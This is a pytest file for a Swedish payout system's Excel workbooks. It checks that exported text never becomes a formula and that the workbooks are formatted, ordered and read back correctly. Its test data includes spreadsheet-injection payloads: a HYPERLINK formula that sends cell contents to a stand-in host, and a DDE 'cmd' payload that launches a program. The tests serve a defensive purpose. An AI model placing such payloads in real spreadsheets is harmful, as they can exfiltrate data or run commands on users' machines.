"""Every workbook the project writes: text from an export or the payout system stays text, amounts
are numbers in kronor, and the case workers' workbook is ordered, dated and printable. Its columns
are declared once: the robot writes it from them, the console reads it back by heading (whatever the
order), and the README lists the same columns."""

from __future__ import annotations

import datetime as dt
import re
import stat
import zipfile
from collections.abc import Iterator
from decimal import Decimal
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook
from openpyxl.utils import get_column_letter
from splitpayout.adapters.reports import (
    MANUAL_COLUMNS,
    MANUAL_KEYS,
    identity_text,
    manual_rows,
    read_manual_workbook,
    write_manual_workbook,
)
from splitpayout.adapters.workbook import (
    DATE_FORMAT,
    KRONOR,
    KRONOR_FORMAT,
    Column,
    Sheet,
    clean_text,
    sheet_title,
    write_workbook,
)
from splitpayout.domain.models import (
    Contact,
    DecisionPlan,
    DecisionResult,
    Method,
    Outcome,
    PaymentResult,
    PaymentStatus,
    Reason,
)
from splitpayout.domain.reasons import ReasonCode
from splitpayout.jobs.reconcile.findings import Finding, FindingCode, Reconciliation
from splitpayout.jobs.reconcile.report import write_workbook as write_reconciliation
from splitpayout.jobs.reconcile.settings import Period

from console.workbook import read_manual_rows

PAYOUT = dt.date(2026, 12, 23)
CREATED = dt.datetime(2026, 11, 23, 20, 25, tzinfo=dt.UTC)
LEADS = ("=", "+", "-", "@")
DANGEROUS = (
    '=HYPERLINK("http://example.invalid/?q="&E5,"Klicka här")',
    "=1+1",
    "+46 70 123",
    "-2+3",
    "@SUM(A1:A3)",
    "=cmd|' /C calc'!A0",
    "#N/A",
    "#DIV/0!",
)
_FORMULA_ELEMENT = re.compile(rb"<(?:\w+:)?f[\s>/]")


def formula_cells(path: Path) -> int:
    """Formula cells in the saved file, counted twice: in the raw XML and as openpyxl loads them."""
    with zipfile.ZipFile(path) as archive:
        raw = sum(
            len(_FORMULA_ELEMENT.findall(archive.read(name)))
            for name in archive.namelist()
            if name.startswith("xl/worksheets/")
        )
    workbook = load_workbook(path)
    loaded = sum(
        1
        for sheet in workbook.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f"
    )
    return raw + loaded


def all_values(path: Path) -> list[object]:
    workbook = load_workbook(path)
    return [
        cell for sheet in workbook.worksheets for row in sheet.iter_rows(values_only=True) for cell in row
    ]


def plan_with(text: str, decision_id: str = "EB-1", case_worker: str | None = None) -> DecisionPlan:
    return DecisionPlan(
        decision_id=decision_id,
        row_numbers=(5,),
        amount_ore=374608,
        outcome=Outcome.MANUAL,
        reasons=(Reason(code=ReasonCode.INVALID_ROW, fields=(text,)),),
        case_worker=case_worker if case_worker is not None else text,
        contact=Contact(
            applicant1_name=text,
            applicant1_personnummer=text,
            applicant2_name=text,
            applicant2_personnummer=text,
        ),
        requested_payout_date=PAYOUT,
    )


def result_for(plan: DecisionPlan, number: str = "U-1") -> DecisionResult:
    return DecisionResult(
        decision_id=plan.decision_id,
        outcome=Outcome.MANUAL,
        amount_ore=plan.amount_ore,
        reasons=plan.reasons,
        payments=(
            PaymentResult(
                reference=f"{plan.decision_id}/1",
                method=Method.KONTO,
                amount_ore=100,
                payout_date=PAYOUT,
                payment_number=number,
                status=PaymentStatus.REGISTERED,
            ),
        ),
    )


def rows_of(path: Path, sheet_index: int = 0) -> list[dict[str, object]]:
    sheet = load_workbook(path).worksheets[sheet_index]
    rows = [list(row) for row in sheet.iter_rows(values_only=True)]
    header_index = next(i for i, row in enumerate(rows) if "Beslutsnummer" in row)
    header = rows[header_index]
    return [dict(zip(header, row, strict=False)) for row in rows[header_index + 1 :]]


@pytest.mark.parametrize("text", DANGEROUS)
def test_a_formula_in_any_export_column_stays_text_in_the_case_workers_workbook(
    tmp_path: Path, text: str
) -> None:
    plan = plan_with(text)
    path = tmp_path / "manuell-hantering.xlsx"
    write_manual_workbook(
        path, [(plan, result_for(plan, number=text))], source_name=text, run_id=text, created=CREATED
    )
    assert formula_cells(path) == 0
    values = all_values(path)
    # name, personnummer (both applicants), handläggare, fields and payment number: each as written
    assert values.count(text) >= 7
    assert any(isinstance(value, str) and value.endswith(text) for value in values)  # the file's name


text_with_lead = st.builds(lambda lead, rest: lead + rest, st.sampled_from(LEADS), st.text(max_size=60))


@pytest.mark.slow  # writes and reads a workbook per generated example
@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(name=text_with_lead, case_worker=text_with_lead, number=text_with_lead)
def test_generated_leading_characters_never_make_a_formula(
    tmp_path: Path, name: str, case_worker: str, number: str
) -> None:
    plan = plan_with(name, case_worker=case_worker)
    path = tmp_path / "generated.xlsx"
    write_manual_workbook(
        path, [(plan, result_for(plan, number=number))], source_name=name, run_id="r", created=CREATED
    )
    assert formula_cells(path) == 0
    row = rows_of(path)[0]
    assert row["Sökande 1"] == (clean_text(name) or None)
    assert row["Handläggare"] == (clean_text(case_worker) or None)
    assert row["Utbetalningsnummer"] == (clean_text(number) or None)


@pytest.mark.slow  # writes and reads a workbook per generated example
@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(reference=text_with_lead, decision=text_with_lead, number=text_with_lead, file_name=text_with_lead)
def test_the_reconciliation_workbook_keeps_payout_system_text_as_text(
    tmp_path: Path, reference: str, decision: str, number: str, file_name: str
) -> None:
    result = Reconciliation(period=Period(PAYOUT, PAYOUT))
    result.findings.append(
        Finding(
            code=FindingCode.REGISTERED_WITHOUT_DECISION,
            reference=reference,
            decision_id=decision,
            payment_numbers=[number],
            held_amount_ore=12345,
            held_payout_dates=[PAYOUT],
        )
    )
    document = {
        "reconciliation_id": "2026-11-23T202500Z-abc123",
        "created_at": "2026-11-23T20:25:00+00:00",
        "planning_date": "2026-12-01",
        "sources": {
            "decisions": [
                {"file_name": file_name, "sha256": "=ab", "rows": 3, "same_content_as_earlier": False}
            ],
            "ledger": {"file_name": "=ledger.sqlite3", "entries": 1},
            "payout_system": {"url": "=http://example.invalid"},
        },
    }
    path = tmp_path / "avstamning.xlsx"
    write_reconciliation(path, document, result)
    assert formula_cells(path) == 0
    values = all_values(path)
    for text in (reference, decision, number, file_name):
        if clean_text(text):
            assert clean_text(text) in values
    assert Decimal("123.45") in [Decimal(str(v)) for v in values if isinstance(v, float)]


def test_control_characters_are_replaced_not_refused(tmp_path: Path) -> None:
    plan = plan_with("=A\x01B\x1f")
    path = tmp_path / "control.xlsx"
    write_manual_workbook(path, [(plan, result_for(plan))], source_name="x", run_id="r", created=CREATED)
    assert rows_of(path)[0]["Sökande 1"] == "=A?B?"
    assert formula_cells(path) == 0


def _case_worker_plans() -> Iterator[tuple[DecisionPlan, DecisionResult]]:
    """A generator, as when plans and results stream from the run's files."""
    for decision_id, worker in (
        ("EB-9", "hl2"),
        ("eb-10", "HL1"),
        ("EB-3", None),
        ("EB-2", "hl2"),
        ("EB-1", "hl1"),
    ):
        plan = DecisionPlan(
            decision_id=decision_id,
            row_numbers=(int(decision_id[3:]) + 4,),
            amount_ore=374608,
            outcome=Outcome.MANUAL,
            reasons=(Reason(code=ReasonCode.INVALID_ACCOUNT, fields=("Sökande 1 kontonummer",)),),
            case_worker=worker,
            contact=Contact(applicant1_name="Anna Andersson", applicant1_personnummer="198112189876"),
            requested_payout_date=dt.date(2026, 12, 26),  # Boxing Day: paid on the 23rd
        )
        yield plan, result_for(plan)
    paid = DecisionPlan(decision_id="EB-99", row_numbers=(99,), amount_ore=1, outcome=Outcome.PLANNED)
    yield paid, DecisionResult(decision_id="EB-99", outcome=Outcome.PAID, amount_ore=1)


def test_the_case_workers_workbook_is_one_to_act_on(tmp_path: Path) -> None:
    path = tmp_path / "manuell-hantering.xlsx"
    count = write_manual_workbook(
        path, _case_worker_plans(), source_name="export.xlsx", run_id="r1", created=CREATED
    )
    assert count == 5
    body = rows_of(path)
    # Handläggare (ignoring case), then Beslutsnummer; decisions without a handläggare last.
    assert [(row["Handläggare"], row["Beslutsnummer"]) for row in body] == [
        ("hl1", "EB-1"),
        ("HL1", "eb-10"),
        ("hl2", "EB-2"),
        ("hl2", "EB-9"),
        (None, "EB-3"),
    ]
    first = body[0]
    assert first["Belopp"] == pytest.approx(3746.08)
    assert first["Utbetalningsdag"] == dt.datetime(2026, 12, 23)
    assert first["Personnummer sökande 1"] == "19811218-9876"
    workbook = load_workbook(path)
    sheet = workbook.worksheets[0]
    header_row = next(row[0].row for row in sheet.iter_rows() if row[1].value == "Beslutsnummer")
    amount = sheet.cell(row=header_row + 1, column=4)
    assert amount.data_type == "n" and "kr" in amount.number_format
    assert sheet.page_setup.orientation == "landscape"
    assert sheet.sheet_properties.pageSetUpPr.fitToPage
    assert sheet.page_setup.fitToWidth == 1 and sheet.page_setup.fitToHeight == 0
    assert sheet.print_title_rows == f"${header_row}:${header_row}"
    assert all(sheet.cell(row=header_row, column=c).alignment.wrap_text for c in range(1, 15))
    assert "svensk tid, CET" in str(sheet.cell(row=2, column=1).value)
    assert "21:25" in str(sheet.cell(row=2, column=1).value)  # 20:25 UTC is 21:25 in Stockholm
    # one sheet for all, then one per handläggare (the same id in another letter case is another id)
    assert workbook.sheetnames == ["Manuell hantering", "HL1", "hl1 (2)", "hl2"]
    assert [row["Beslutsnummer"] for row in rows_of(path, 3)] == ["EB-2", "EB-9"]
    assert stat.S_IMODE(path.stat().st_mode) == 0o600


def test_registered_not_found_names_the_payment_number(tmp_path: Path) -> None:
    plan = DecisionPlan(
        decision_id="EB-160",
        row_numbers=(7,),
        amount_ore=500000,
        outcome=Outcome.PLANNED,
        case_worker="hl7",
        requested_payout_date=PAYOUT,
    )
    result = DecisionResult(
        decision_id="EB-160",
        outcome=Outcome.MANUAL,
        amount_ore=500000,
        reasons=(Reason.model_construct(code="registered_not_found", fields=(), detail=""),),
        payments=(
            PaymentResult(
                reference="EB-160/1",
                method=Method.KONTO,
                amount_ore=500000,
                payout_date=PAYOUT,
                payment_number="U-100160",
                status=PaymentStatus.REGISTERED,
            ),
        ),
    )
    path = tmp_path / "m.xlsx"
    write_manual_workbook(path, [(plan, result)], source_name="x.xlsx", run_id="r", created=CREATED)
    row = rows_of(path)[0]
    assert row["Utbetalningsnummer"] == "U-100160"
    assert str(row["Orsak"]).startswith("Roboten registrerade utbetalningen (U-nummer)")
    assert "U-100160" in str(row["Vad du behöver göra"])


def test_identity_numbers_in_one_format() -> None:
    assert identity_text("198112189876") == "19811218-9876"
    assert identity_text("8112189876") == "8112189876"  # not normalised: not valid, shown as written


@given(st.text(max_size=40))
def test_sheet_titles_are_always_accepted(wanted: str) -> None:
    taken: set[str] = set()
    first, second = sheet_title(wanted, taken), sheet_title(wanted, taken)
    for title in (first, second):
        assert 1 <= len(title) <= 31
        assert not set(title) & set("[]:*?/\\'")
    assert first.lower() != second.lower()


README = Path(__file__).resolve().parents[2] / "README.md"


def decision(
    decision_id: str = "2026-0001", worker: str = "hl1", text: str = "Anna Andersson"
) -> tuple[DecisionPlan, DecisionResult]:
    reasons = (
        Reason(code=ReasonCode.REJECTED_BY_PAYOUT_SYSTEM, fields=("amount",)),
        Reason(code=ReasonCode.INVALID_ACCOUNT, fields=("Sökande 2 kontonummer",)),
    )
    plan = DecisionPlan(
        decision_id=decision_id,
        row_numbers=(5,),
        amount_ore=1234550,
        outcome=Outcome.MANUAL,
        reasons=reasons,
        case_worker=worker,
        contact=Contact(
            applicant1_name=text,
            applicant1_personnummer="198112189876",
            applicant2_name="Bo Berg",
            applicant2_personnummer="198112189876",
        ),
        requested_payout_date=dt.date(2026, 12, 24),
    )
    payment = PaymentResult(
        reference=f"{decision_id}/1",
        method=Method.KONTO,
        amount_ore=400,
        payout_date=dt.date(2026, 12, 23),
        payment_number="U-100003",
        status=PaymentStatus.REGISTERED,
    )
    return plan, DecisionResult(
        decision_id=decision_id,
        outcome=Outcome.MANUAL,
        amount_ore=1234550,
        reasons=reasons,
        payments=(payment,),
    )


def written(tmp_path: Path, items: list[tuple[DecisionPlan, DecisionResult]]) -> Path:
    path = tmp_path / "manuell-hantering.xlsx"
    write_manual_workbook(path, items, source_name="export.xlsx", run_id="r1", created=CREATED)
    return path


def test_the_workbook_has_the_declared_headings_widths_and_formats_in_order(tmp_path: Path) -> None:
    sheet = load_workbook(written(tmp_path, [decision()])).worksheets[0]
    rows = list(sheet.iter_rows())
    header = next(i for i, row in enumerate(rows) if row[0].value == MANUAL_COLUMNS[0].title)
    assert [cell.value for cell in rows[header]] == [column.title for column in MANUAL_COLUMNS]
    for index, (column, cell) in enumerate(zip(MANUAL_COLUMNS, rows[header + 1], strict=True), start=1):
        assert sheet.column_dimensions[get_column_letter(index)].width == column.width
        if column.key == "amount":
            assert (cell.value, cell.number_format) == (Decimal("12345.50"), KRONOR_FORMAT)
        if column.key == "payout_date":
            assert (cell.value, cell.number_format) == (dt.datetime(2026, 12, 23), DATE_FORMAT)
        if column.key == "export_rows":
            assert cell.value == 5 and cell.data_type == "n"
    assert [column.key for column in MANUAL_COLUMNS if column.kind == KRONOR] == ["amount"]
    assert len(set(MANUAL_KEYS)) == len(MANUAL_KEYS)
    assert len({column.title for column in MANUAL_COLUMNS}) == len(MANUAL_COLUMNS)


def test_the_console_reads_each_column_back_by_its_key(tmp_path: Path) -> None:
    plan, result = decision()
    rows, total = read_manual_workbook(written(tmp_path, [(plan, result)]), limit=10)
    assert total == 2 and [list(row) for row in rows] == [list(MANUAL_KEYS)] * 2
    expected = [dict(zip(MANUAL_KEYS, values, strict=True)) for values in manual_rows(plan, result)]
    expected[0]["payout_date"] = dt.datetime(2026, 12, 23)  # a date comes back as a spreadsheet date
    expected[1]["payout_date"] = dt.datetime(2026, 12, 23)
    assert rows == expected

    shown, count = read_manual_rows(tmp_path / "manuell-hantering.xlsx")
    assert count == 2
    first = shown[0]
    assert (first.decision_id, first.handlaggare, first.applicant1) == ("2026-0001", "hl1", "Anna Andersson")
    assert (first.amount, first.payout_date, first.payment_numbers) == (
        "12 345,50 kr",
        "2026-12-23",
        "U-100003",
    )
    assert first.reason == "Utbetalningssystemet godtog inte uppgifterna" and first.fields == "Belopp"
    assert "2026-0001/1 (U-100003)" in first.todo
    assert shown[1].reason == "Ogiltigt eller ofullständigt bankkonto"
    with pytest.raises(AttributeError):
        _ = first.not_a_column


def test_a_workbook_with_its_columns_in_another_order_and_an_earlier_heading_reads_the_same(
    tmp_path: Path,
) -> None:
    plan, result = decision()
    values = manual_rows(plan, result)
    order = list(reversed(range(len(MANUAL_COLUMNS))))
    columns = [
        Column("Belopp (kr)", 15) if MANUAL_COLUMNS[i].key == "amount" else MANUAL_COLUMNS[i] for i in order
    ]
    rows = [[row[i] for i in order] for row in values]
    earlier = tmp_path / "earlier.xlsx"
    write_workbook(earlier, [Sheet("Manuell hantering", columns, rows, (("Beslut",), ()))])
    now = written(tmp_path, [(plan, result)])
    assert read_manual_rows(earlier) == read_manual_rows(now)
    assert read_manual_rows(earlier)[0][0].amount == "12 345,50 kr"


def test_a_protected_decision_is_read_back_by_number_only(tmp_path: Path) -> None:
    plan, result = decision()
    plan = plan.model_copy(update={"protected": True})
    (row,), total = read_manual_rows(written(tmp_path, [(plan, result)]))
    assert total == 1
    filled = {key for key in MANUAL_KEYS if getattr(row, key)}
    assert filled == {"handlaggare", "decision_id", "status", "reason", "todo"}
    assert row.reason == "Skyddade personuppgifter"


@settings(max_examples=25, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(text=st.text(min_size=1, max_size=40).filter(lambda t: t.strip() == t and t.isprintable()))
def test_any_text_of_an_export_reads_back_as_written(tmp_path: Path, text: str) -> None:
    rows, total = read_manual_rows(written(tmp_path, [decision(text=text), decision("2026-0002")]))
    assert total == 4 and rows[0].applicant1 == rows[1].applicant1 == text


def test_the_readme_lists_the_workbooks_columns_in_order() -> None:
    section = README.read_text(encoding="utf-8").split("## Reading a run's output", 1)[1].split("\n## ", 1)[0]
    listed = section.split("reads it back by; in order:", 1)[1].split("\n- ", 1)[0]
    assert re.findall(r"`([^`]+)`", listed) == [column.title for column in MANUAL_COLUMNS]


def test_no_workbook_or_one_without_a_header_row_reads_as_nothing(tmp_path: Path) -> None:
    assert read_manual_rows(tmp_path / "missing.xlsx") == ([], 0)
    other = tmp_path / "other.xlsx"
    write_workbook(other, [Sheet("Blad", [Column("Något", 10)], [["x"]])])
    assert read_manual_rows(other) == ([], 0)
